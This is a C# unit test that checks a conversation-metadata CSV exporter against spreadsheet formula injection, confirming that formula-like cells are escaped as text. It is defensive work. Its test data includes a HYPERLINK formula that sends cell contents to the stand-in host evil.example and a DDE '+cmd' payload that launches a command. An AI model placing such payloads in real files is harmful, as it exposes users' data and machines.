using AgentSupport.Workbench.Analysis;
using AgentSupport.Workbench.Analysis.Exports;
using CsvHelper;
using static AgentSupport.Workbench.Tests.Support.Jsonl;

namespace AgentSupport.Workbench.Tests.Security;

/// <summary>A spreadsheet that opens an export shows the data's text as text: no cell from data runs as a formula.</summary>
public sealed class CsvInjectionSecurityTests : IDisposable
{
    private readonly string _directory = Directory.CreateTempSubdirectory("agentsupport-csv-").FullName;

    public void Dispose() => Directory.Delete(_directory, recursive: true);

    [Fact]
    public async Task Text_cells_that_start_like_a_formula_are_written_as_text_and_numbers_stay_numbers()
    {
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"ver\")";
        var jsonl = string.Join('\n',
            Line(Dialect.Seed, hyperlink, duration: "90", transcript: [CustomerSays("hola")]),
            Line(Dialect.Roles, "@SUM(A1)", transcript: [CustomerSays("hola")]).Replace("\"summary of @SUM(A1)\"", "\"+cmd|' /C calc'!A0\"", StringComparison.Ordinal),
            Line(Dialect.Seed, "-2+3", transcript: [CustomerSays("hola")]));
        var path = Path.Combine(_directory, AnalysisExports.BaselineMetaFile);

        using (var meta = ConversationMetaCsvWriter.Create(path))
        {
            await new ConversationAnalyzer().AnalyzeAsync(new MemoryStream(System.Text.Encoding.UTF8.GetBytes(jsonl)), onConversation: meta.Write);
        }

        using var csv = CsvReader.FromFile(path);
        var rows = new List<(string Id, string Duration, string Summary)>();
        while (csv.Read())
        {
            rows.Add((csv.GetString("conversation_id"), csv.GetString("duration_sec"), csv.GetString("summary")));
        }

        Assert.Equal(
            [
                ("'" + hyperlink, "90", "summary of " + hyperlink),
                ("'@SUM(A1)", "120", "'+cmd|' /C calc'!A0"),
                ("'-2+3", "120", "summary of -2+3"),
            ],
            rows);
    }
}
